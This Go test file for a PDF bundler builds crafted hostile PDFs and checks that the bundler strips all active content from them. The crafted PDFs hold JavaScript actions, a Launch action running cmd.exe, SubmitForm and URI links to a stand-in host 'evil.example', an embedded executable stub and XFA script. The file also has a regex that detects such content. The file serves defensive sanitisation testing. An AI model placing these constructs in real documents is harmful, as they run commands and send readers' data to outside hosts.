package bundle

import (
	"bytes"
	"fmt"
	"os/exec"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/types"

	"github.com/cynllun/cynllun/form"
)

// hostile17 is rawPDF as PDF 1.7 (XFA, GoToE and rich media are 1.5+).
func hostile17(objs ...string) []byte {
	return bytes.Replace(rawPDF(objs...), []byte("%PDF-1.4"), []byte("%PDF-1.7"), 1)
}

// payload marks every byte of active content in the crafted documents: none
// of it may reach a bundle.
const payload = "evil.example"

// Objects shared by the crafted documents: 2 is the page tree, 3 and 4 the
// pages, 5 the content stream, 6 the font.
func hostileDoc(catalogExtra, page1Extra string, extra ...string) []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R " + catalogExtra + " >>",
		"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 595 842] >>",
		"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> " + page1Extra + " >>",
		"<< /Type /Page /Parent 2 0 R /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> >>",
		stream("BT /F1 12 Tf 72 720 Td (Evidence page) Tj ET"),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	}
	return hostile17(append(objs, extra...)...)
}

const (
	jsAction = "<< /Type /Action /S /JavaScript /JS (app.launchURL\\('https://evil.example/js'\\)) >>"
	rect     = "/Rect [72 600 300 620] /Border [0 0 0]"
)

// hostileDocs are crafted PDFs, one kind of active content each, and one
// with all of them; each also has links within itself, which must stay.
func hostileDocs() map[string][]byte {
	internal := "/Annots [8 0 R 9 0 R]"
	docs := map[string][]byte{
		"page-open JavaScript (catalogue OpenAction, page /AA)": hostileDoc("/OpenAction 7 0 R", "/AA << /O 7 0 R /C 7 0 R >>",
			jsAction),
		"document actions /AA and JavaScript name tree": hostileDoc("/AA << /WC 7 0 R /DP 7 0 R >> /Names << /JavaScript 8 0 R >>", "",
			jsAction, "<< /Names [(init) 7 0 R] >>"),
		"link with /JS": hostileDoc("", "/Annots [7 0 R]",
			"<< /Type /Annot /Subtype /Link "+rect+" /A 8 0 R >>", jsAction),
		"link with Launch": hostileDoc("", "/Annots [7 0 R]",
			"<< /Type /Annot /Subtype /Link "+rect+" /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c start https://evil.example/) >> >> >>"),
		"URI link": hostileDoc("/URI << /Base (https://evil.example/) >>", "/Annots [7 0 R]",
			"<< /Type /Annot /Subtype /Link "+rect+" /A << /S /URI /URI (https://evil.example/track) >> >>"),
		"GoToR, GoToE, ImportData and SubmitForm links": hostileDoc("", "/Annots [7 0 R 8 0 R 9 0 R 10 0 R]",
			"<< /Type /Annot /Subtype /Link "+rect+" /A << /S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] >> >>",
			"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /A << /S /GoToE /T << /R /C /N (evil.example) >> /D [0 /Fit] >> >>",
			"<< /Type /Annot /Subtype /Link /Rect [72 520 300 540] /A << /S /ImportData /F (evil.example.fdf) >> >>",
			"<< /Type /Annot /Subtype /Link /Rect [72 480 300 500] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>"),
		"embedded file (name tree and file attachment annotation)": hostileDoc("/Names << /EmbeddedFiles 7 0 R >>", "/Annots [10 0 R]",
			"<< /Names [(evil.example.exe) 8 0 R] >>",
			"<< /Type /Filespec /F (evil.example.exe) /UF (evil.example.exe) /EF << /F 9 0 R >> >>",
			"<< /Type /EmbeddedFile /Length 24 >>\nstream\nMZ evil.example payload.\nendstream",
			"<< /Type /Annot /Subtype /FileAttachment "+rect+" /FS 8 0 R /Contents (attached) >>"),
		"form field scripts, submit button and XFA": hostileDoc("/AcroForm << /Fields [7 0 R] /XFA 8 0 R >>", "/Annots [7 0 R]",
			"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) "+rect+" /P 3 0 R"+
				" /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> /AA << /E 9 0 R /K 9 0 R >> >>",
			stream("<xdp:xdp><script>evil.example</script></xdp:xdp>"),
			jsAction),
		"internal links only": hostileDoc("", internal,
			"<< /Names [] >>",
			"<< /Type /Annot /Subtype /Link "+rect+" /Dest [4 0 R /Fit] >>",
			"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /A << /S /GoTo /D [4 0 R /Fit] /Next 10 0 R >> >>",
			jsAction),
	}
	return docs
}

// activeRE finds, in a PDF's objects as qpdf --qdf prints them (streams
// uncompressed), the names of active content and the payload.
var activeRE = regexp.MustCompile(`/(JS|JavaScript|Launch|SubmitForm|ImportData|GoToR|GoToE|EmbeddedFiles?|FileAttachment|URI|XFA|AA|AF|EF|RichMedia)\b|` + regexp.QuoteMeta(payload))

// activeObjects lists what of active content a PDF holds, read with
// pdfcpu: every object, referenced or not.
func activeObjects(t *testing.T, pdf []byte) []string {
	t.Helper()
	ctx, err := api.ReadContext(bytes.NewReader(pdf), model.NewDefaultConfiguration())
	if err != nil {
		t.Fatal(err)
	}
	var found []string
	var walk func(where string, o types.Object)
	walk = func(where string, o types.Object) {
		switch o := o.(type) {
		case types.Dict:
			for k, v := range o {
				switch k {
				case "AA", "JS", "JavaScript", "EmbeddedFiles", "EF", "RF", "AF", "XFA", "URI", "PA":
					found = append(found, where+" /"+k)
				case "OpenAction":
					if _, dest := v.(types.Array); !dest {
						found = append(found, where+" /OpenAction with an action")
					}
				}
				walk(where, v)
			}
		case types.StreamDict:
			walk(where, o.Dict)
			if err := o.Decode(); err == nil && bytes.Contains(o.Content, []byte(payload)) {
				found = append(found, where+" stream with the payload")
			}
		case types.Array:
			for _, v := range o {
				walk(where, v)
			}
		case types.Name:
			switch o {
			case "JavaScript", "Launch", "SubmitForm", "ImportData", "GoToR", "GoToE", "URI", "EmbeddedFile", "FileAttachment":
				found = append(found, where+" /"+string(o))
			}
		case types.StringLiteral:
			if strings.Contains(string(o), payload) {
				found = append(found, where+" string with the payload")
			}
		}
	}
	for n, e := range ctx.Table {
		if e == nil || e.Free || e.Object == nil {
			continue
		}
		walk(fmt.Sprintf("object %d", n), e.Object)
	}
	slices.Sort(found)
	return found
}

// TestActiveContentRemoved builds bundles of crafted PDFs holding page-open
// and link JavaScript, Launch, URI, GoToR, GoToE, ImportData and SubmitForm
// actions, embedded files, form scripts and XFA, and shows that none of it
// is in the bundle, read two ways (pdfcpu, every object; qpdf --qdf, every
// byte with streams uncompressed), while the documents' own links within
// themselves and the index's links still work.
func TestActiveContentRemoved(t *testing.T) {
	docs := hostileDocs()
	names := make([]string, 0, len(docs))
	for n := range docs {
		names = append(names, n)
	}
	slices.Sort(names)

	build := func(t *testing.T, ids []string) ([]byte, *Manifest) {
		t.Helper()
		sec := Section{Key: "A", Title: form.Text{EN: "Evidence"}}
		for i, n := range ids {
			sec.Documents = append(sec.Documents, Document{ID: fmt.Sprintf("d%d", i), Title: fmt.Sprintf("Document %d", i), PDF: docs[n]})
		}
		b, man, err := Build(Spec{Title: "Bundle", Lang: LangEN, Sections: []Section{sec}})
		if err != nil {
			t.Fatalf("Build: %v", err)
		}
		return b, man
	}
	check := func(t *testing.T, b []byte) {
		t.Helper()
		if found := activeObjects(t, b); len(found) > 0 {
			t.Errorf("bundle holds active content: %v", found)
		}
		if _, err := exec.LookPath("qpdf"); err != nil {
			t.Log("qpdf not found: bundle read with pdfcpu only")
			return
		}
		in := writeFile(t, b)
		out, err := exec.Command("qpdf", "--qdf", "--object-streams=disable", in, "-").CombinedOutput()
		if err != nil {
			// Exit status 3 is warnings only; qpdf still wrote the file.
			if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 3 {
				t.Fatalf("qpdf: %v: %s", err, out)
			}
			t.Errorf("qpdf warns about the bundle")
		}
		if m := activeRE.FindAllString(string(out), -1); len(m) > 0 {
			t.Errorf("qpdf --qdf finds %v in the bundle", m)
		}
	}

	for _, n := range names {
		t.Run(n, func(t *testing.T) {
			// The crafted document holds what it should, or this test
			// could not fail.
			if n != "internal links only" {
				if found := activeObjects(t, docs[n]); len(found) == 0 {
					t.Fatal("crafted document holds no active content")
				}
			}
			b, man := build(t, []string{n})
			check(t, b)
			p := man.Documents[0]
			if n == "internal links only" && len(p.Removed) != 1 {
				t.Errorf("removed %v, want the GoTo's chained script only", p.Removed)
			}
			if n != "internal links only" && len(p.Removed) == 0 {
				t.Errorf("manifest records nothing removed")
			}
			t.Logf("removed: %v", p.Removed)
		})
	}

	t.Run("all together", func(t *testing.T) {
		b, man := build(t, names)
		check(t, b)
		// The index still links to every document, and the document with
		// internal links still jumps to its own second page.
		ctx, err := api.ReadContext(bytes.NewReader(b), model.NewDefaultConfiguration())
		if err != nil {
			t.Fatal(err)
		}
		if err := ctx.EnsurePageCount(); err != nil {
			t.Fatal(err)
		}
		idx := 0
		for p := man.Index.From; p <= man.Index.To; p++ {
			d, _, _, err := ctx.PageDict(p, false)
			if err != nil {
				t.Fatal(err)
			}
			a, _ := ctx.DereferenceArray(d["Annots"])
			idx += len(a)
		}
		if want := 1 + len(names); idx != want {
			t.Errorf("index has %d links, want %d", idx, want)
		}
		var internal Placement
		for i, n := range names {
			if n == "internal links only" {
				internal = man.Documents[i]
			}
		}
		d, _, _, err := ctx.PageDict(internal.FromPage, false)
		if err != nil {
			t.Fatal(err)
		}
		annots, err := ctx.DereferenceArray(d["Annots"])
		if err != nil || len(annots) != 2 {
			t.Fatalf("internal document's page has annotations %v (%v), want its two links", annots, err)
		}
		for _, a := range annots {
			ad, _ := ctx.DereferenceDict(a)
			dest := ad["Dest"]
			if act, _ := ctx.DereferenceDict(ad["A"]); act != nil {
				dest = act["D"]
			}
			arr, err := ctx.DereferenceArray(dest)
			if err != nil || len(arr) == 0 {
				t.Fatalf("link %v has no destination", ad)
			}
			ir, _ := arr[0].(types.IndirectRef)
			got, err := ctx.PageNumber(ir.ObjectNumber.Value())
			if err != nil || got != internal.FromPage+1 {
				t.Errorf("internal link goes to page %d (%v), want %d", got, err, internal.FromPage+1)
			}
		}
		if want := man.Index.To + 1 + 2*len(names); man.Pages != want {
			t.Errorf("bundle has %d pages, want %d", man.Pages, want)
		}
	})
}
